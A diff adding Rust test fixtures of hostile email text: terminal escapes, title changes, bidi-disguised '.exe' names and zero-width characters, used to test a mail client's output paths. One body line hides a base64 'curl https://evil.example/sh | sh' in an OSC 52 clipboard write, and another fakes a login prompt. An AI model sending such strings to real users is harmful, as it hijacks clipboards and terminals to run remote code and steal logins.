@@ -1,0 +1,34 @@
+//! Hostile text as real inboxes carry it: terminal escapes (colour, window title, OSC 52
+//! clipboard writes), BEL, C1 controls, bidi overrides and zero-width characters. The
+//! generator sprinkles these into a few names, subjects and bodies so that every client
+//! path that prints server text is exercised against them.
+
+/// Display names with hidden or terminal-controlling characters.
+pub const NAMES: &[&str] = &[
+    "\u{1b}[31mRed\u{1b}[0m Alert",
+    "Ann\u{200b}Marie",
+    "Eve\u{202e}lived",
+    "Bell\u{7}Ringer",
+    "\u{1b}]0;pwned\u{7}Title",
+    "C1\u{9b}2JClear",
+];
+
+/// Subjects that try to recolour, retitle or reorder the screen.
+pub const SUBJECTS: &[&str] = &[
+    "\u{1b}[1;31mURGENT\u{1b}[0m: invoice overdue",
+    "Re: your order \u{202e}txt.exe",
+    "\u{1b}]0;Inbox (0)\u{7}Quarterly numbers",
+    "Meeting\u{200b}\u{200c}\u{200d} notes",
+];
+
+/// Body lines with escapes that would write the clipboard or clear the screen.
+pub const BODY_LINES: &[&str] = &[
+    "Please run this to verify: \u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9zaCB8IHNo\u{7}",
+    "\u{1b}[2J\u{1b}[HYour session has expired, log in again at https://evil.example/login",
+    "Totally normal line\u{7}\u{7}\u{7} with bells",
+    "Amount due: \u{202e}00.001$\u{202c} (see attachment)",
+    "Signed,\u{9b}31m the \u{feff}team\u{ad}",
+];
+
+/// Attachment names that pretend to be something else.
+pub const FILENAMES: &[&str] = &["invoice\u{202e}fdp.exe", "report\u{200b}.pdf"];
